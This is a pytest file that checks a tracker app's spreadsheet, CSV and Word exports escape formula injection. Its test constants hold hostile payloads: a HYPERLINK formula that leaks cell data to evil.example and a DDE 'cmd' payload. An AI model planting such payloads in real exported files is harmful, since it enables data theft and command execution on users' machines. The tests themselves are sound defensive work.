"""Formula injection: text beginning with =, +, -, @, a tab or CR is written as text in every
export (.xlsx cells of string type, .csv fields prefixed with a quote), never as a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import unit
from test_progress import TODAY, plan_tree  # noqa: F401  (the hand-built plan)
from tracker.export_escaping import csv_text
from tracker.extensions import db
from tracker.indicators import service
from tracker.indicators.service import open_period
from tracker.models import IndicatorForm, Phase, Plan

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
HOSTILE = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]


@pytest.fixture(autouse=True)
def frozen_today(monkeypatch):
    import tracker.progress.routes as routes

    monkeypatch.setattr(routes, "local_today", lambda: TODAY)


def assert_text_not_formulas(data: bytes, expected: str = EVIL) -> None:
    workbook = load_workbook(io.BytesIO(data))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
    assert any(c.value == expected and c.data_type == "s" for c in cells), "the text is there, as text"


def assert_csv_escaped(data: bytes, expected: str = EVIL) -> None:
    fields = [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row]
    assert "'" + expected in fields
    assert not [f for f in fields if f.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "＝"))]


@pytest.mark.parametrize("value", HOSTILE)
def test_the_csv_helper_prefixes_every_formula_start(value):
    assert csv_text(value) == "'" + value
    assert csv_text("正常标题") == "正常标题" and csv_text(-2) == -2 and csv_text(None) is None


@pytest.fixture
def hostile_plan(plan_tree):  # noqa: F811
    plan, s1, _s2, tasks = plan_tree
    plan.title = EVIL
    tasks["a"].title = EVIL
    tasks["a"].deliverable = "@SUM(1,2)"
    s1.title = EVIL
    unit("P11").name = EVIL
    db.session.scalar(select(Phase).where(Phase.plan_id == plan.id, Phase.key == "startup")).name = EVIL
    db.session.commit()
    return plan


@pytest.mark.parametrize(
    "url",
    [
        "/progress/progress-plan/matrix.{fmt}",
        "/progress/progress-plan/phases.{fmt}",
        "/ranking.{fmt}?plan=progress-plan",
        "/tasks/export.{fmt}?plan=progress-plan",
    ],
)
def test_progress_and_task_exports_write_text_as_text(client, auth, make_user, hostile_plan, url):
    auth.login(make_user("leader", "NHC"))
    xlsx = client.get(url.format(fmt="xlsx"))
    assert xlsx.status_code == 200
    assert_text_not_formulas(xlsx.data)
    comma = client.get(url.format(fmt="csv"))
    assert comma.status_code == 200
    assert_csv_escaped(comma.data)


def test_the_matrix_by_sections_carries_the_section_title_as_text(client, auth, make_user, hostile_plan):
    auth.login(make_user("leader", "NHC"))
    assert_text_not_formulas(client.get("/progress/progress-plan/matrix.xlsx?by=sections").data)


def test_the_circular_holds_the_text_as_runs_not_fields(client, auth, make_user, hostile_plan):
    auth.login(make_user("leader", "NHC"))
    response = client.get("/leadership/circular.docx")
    assert response.status_code == 200
    body = zipfile.ZipFile(io.BytesIO(response.data)).read("word/document.xml").decode("utf-8")
    assert "fldSimple" not in body and "instrText" not in body
    assert "=HYPERLINK(" in body  # the title, as a run of text (Word evaluates no formulas in text)


@pytest.fixture
def period(make_user):
    plan = db.session.scalar(select(Plan).where(Plan.key == "wuzhong-2016"))
    period = open_period(
        plan, make_user("coordinator", "WZ"), "half", 2016, 2, date(2016, 12, 12), "county", unit("WZ")
    )
    plan.title = EVIL
    db.session.commit()
    return period


def test_the_indicator_form_and_aggregate_exports_write_text_as_text(client, auth, make_user, period):
    form = db.session.scalar(
        select(IndicatorForm).where(IndicatorForm.period_id == period.id, IndicatorForm.unit_id == unit("WZ-LT").id)
    )
    reporter = make_user("reporter", "WZ-LT")
    layout = service.layout_for(period)
    text_fields = [f for f in layout.fields if f.type == "text"]
    values = {f"v-{f.code}": "2" for f in layout.fields if f.required and f.type != "text"}
    for f in text_fields:
        values[f"v-{f.code}"] = "-2+3"
    service.save_form(form, reporter, values, submit=False)
    unit("WZ-LT").name = EVIL
    db.session.commit()
    auth.login(reporter)
    download = client.get(f"/indicators/forms/{form.id}.xlsx")
    assert download.status_code == 200
    assert_text_not_formulas(download.data)
    if text_fields:
        assert_text_not_formulas(download.data, "-2+3")
    auth.login(make_user("coordinator", "WZ"))
    service.save_form(form, reporter, values, submit=True)
    db.session.commit()
    aggregate = client.get(f"/indicators/periods/{period.id}/aggregate.xlsx")
    assert aggregate.status_code == 200
    assert_text_not_formulas(aggregate.data)
